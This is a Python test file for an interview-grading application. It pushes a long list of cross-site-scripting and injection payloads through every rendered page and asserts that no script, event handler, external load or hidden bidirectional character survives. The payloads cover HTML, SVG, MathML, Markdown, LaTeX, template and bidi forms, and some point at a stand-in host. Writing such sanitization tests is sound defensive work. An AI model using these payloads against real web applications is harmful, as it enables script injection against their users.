"""Texts that try to run or to load something, through every way that text takes into HTML."""

import re
from dataclasses import replace

import pytest
from fakes import BANK, DROPOUT, begun, grade
from html_seen import seen

from interviewer.domain.grade import Evidence, Extra, Gap, Level, Method, Ruling
from interviewer.domain.interview import (
    Answered,
    Begun,
    Ended,
    Graded,
    Hinted,
    Interview,
    Ruled,
    SecondOpinionAsked,
    SecondOpinionGiven,
    Ungraded,
    Unprobed,
    replay,
)
from interviewer.domain.language import Language
from interviewer.domain.rubric import Localized
from interviewer.presentation.card import CardActions, card
from interviewer.presentation.chat import chat
from interviewer.presentation.interview_report import report
from interviewer.presentation.transcript import Transcript, to_html
from interviewer.sessions.interview_plan import QuestionName
from interviewer.sessions.question_notes import QuestionNote, clean_note

JS, EVIL = "javascript:alert(1)", "https://evil.example/x"

PAYLOADS = [
    # HTML
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}>",
    "<body onload=alert(1)>",
    f"<iframe src={JS}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}>",
    "<style>@import 'https://evil.example/x';</style>",
    f"<base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={JS}><button>x</button></form>",
    f"<button formaction={JS}>x</button>",
    "<input autofocus onfocus=alert(1)>",
    f"<video poster={EVIL}><source src={EVIL} onerror=alert(1)></video>",
    f"<audio src={EVIL} onloadstart=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    f"<a href={JS}>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "</div></article></main><h1>owned</h1>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)\" onfocus=\"alert(2)",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    # SVG
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><a xlink:href={JS}><text>x</text></a></svg>",
    f"<svg><use href='{EVIL}#x'/></svg>",
    f"<svg><image href={EVIL} /></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    # MathML
    f"<math href={JS}>x</math>",
    f"<math><maction actiontype=statusline xlink:href={JS}>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    # Markdown
    f"[x]({JS})",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    f"![x]({EVIL})",
    f"![x][r]\n\n[r]: {EVIL}",
    f"[x][r]\n\n[r]: {JS}",
    f"<{JS}>",
    "<https://evil.example/<script>alert(1)</script>>",
    '[x](https://evil.example "\\" onmouseover=alert(1) ")',
    "[x](<https://evil.example/ onclick=alert(1)>)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img/src=x/onerror=alert(1)>\nx\n```',
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:--" onclick=alert(1):|\n| b |',
    "- <script>alert(1)</script>\n  - ![x](//evil.example/x)",
    "# <img src=x onerror=alert(1)>",
    "*<script>alert(1)</script>*",
    # LaTeX
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\mathrm{</math><script>alert(1)</script>}$$",
    "\\(\\url{javascript:alert(1)}\\)",
    "\\[\\includegraphics{https://evil.example/x}\\]",
    '$\\color{" onclick="alert(1)}{x}$',
    '$\\class{x" onclick="alert(1)}{x}$',
    "$\\style{background:url(https://evil.example/x)}{x}$",
    '$\\hspace{1"/><script>alert(1)</script>}$',
    "$\\begin{matrix}<svg onload=alert(1)>\\end{matrix}$",
    # templates, bidirectional text and characters that are not seen
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} `x`",
    "{% raw %}{{ 7 * 7 }}{#each x}",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "[\u202ecod.exe](https://evil.example/\u202efdp.exe)",
    "java\u200bscript:alert(1) [x](java\u200bscript:alert(1))",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\U000f0000<b>\U000f0001</b>\U000f0002 `x`",
]

TAGS = set(
    "a annotation article aside blockquote body br button code details div em footer h1 h2 h3 h4 h5 h6 h5 head html input li main "
    "mark math meta mfrac mi mn mo mrow ms mstyle msub msup mtable mtd mtext mtr ol p pre rect s section span strong style "
    "summary svg table tbody td textarea th thead title tr ul mspace".split()
)


def spread(text: str) -> Interview:
    """An interview in which the text stands wherever somebody else's text may stand."""
    words = Localized(text, text)
    criteria = tuple(
        replace(one, text=words, hints=(words,), why=words if one.kind == "mistake" else None)
        for one in DROPOUT.criteria
    )
    question = replace(DROPOUT, text=words, reference=words, criteria=criteria, correction=words, source=text)
    bank = replace(BANK, questions=(question,), title=words, topics={"regularization": words})
    start = begun()
    plan = replace(start.plan, questions=("dropout",))
    events = [Begun(bank, plan), Hinted("off", text), Answered(text), Unprobed()]
    first = grade(replay(events).current, off=Level.PARTIAL, on=Level.MET)
    rich = replace(
        first,
        verdicts=tuple(replace(one, reason=words) for one in first.verdicts),
        provenance=replace(first.provenance, method=Method.MODEL, model=text, host=text),
        extras=(Extra(words, Evidence(2, text)),),
        dispute=words,
        opening=words,
        gaps=(Gap("random", words, words),),
    )
    events += [
        Graded("dropout", 1, rich),
        Ruled("dropout", 1, Ruling("off", Level.MET, "", text)),
        Ruled("dropout", 1, Ruling("random", Level.MISSING, text, text)),
        SecondOpinionAsked("dropout", 1),
        SecondOpinionGiven("dropout", 1, rich),
    ]
    return replay([*events, Ended()])


def faces(interview: Interview) -> list[str]:
    kept = {QuestionName(interview.bank.id, "dropout"): QuestionNote(clean_note(interview.current.answers[-1][1]))}
    live = CardActions(lambda _: False, has_model=True, notes=kept)
    pages = [str(chat(interview, Language.EN)), str(report(interview, Language.EN, live=live))]
    pages += [str(card(interview, interview.attempts[0], language, live=live)) for language in Language]
    transcript = Transcript("x", interview, "2026-01-02T03:04:05", "2026-01-02T03:04:05", 4)
    return [*pages, to_html(transcript, Language.EN)]


def check(html: str) -> None:
    found = seen(html)
    assert {tag for tag, _ in found.tags} <= TAGS
    for tag, attributes in found.tags:
        assert not any(name.startswith("on") for name in attributes), attributes
        assert not set(attributes) & {"src", "srcdoc", "srcset", "style", "action", "formaction", "poster", "data"}
        assert not any(":href" in name for name in attributes)
        if tag == "textarea":  # of notes, and of nothing that anybody says
            assert attributes["class"] == "note-text"
        if "href" in attributes:
            assert tag == "a"
            assert re.match("https?://", attributes["href"] or "")
            assert attributes["rel"] == "nofollow noopener"
        if tag == "meta":
            assert attributes.get("http-equiv") in (None, "Content-Security-Policy")
    assert html.count("<style") <= 1
    body = html.partition("</style>")[2] or html
    assert not any(sign in body for sign in "{}$`\\")
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\x00]", body)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_and_nothing_is_loaded(payload: str) -> None:
    for html in faces(spread(payload)):
        check(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_reason_of_a_failure_is_text(payload: str) -> None:
    failed = replay([begun(), Answered("x"), Unprobed(), Ungraded("dropout", 1, payload)])
    check(str(card(failed, failed.current, Language.EN)))


def test_there_are_many_different_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60
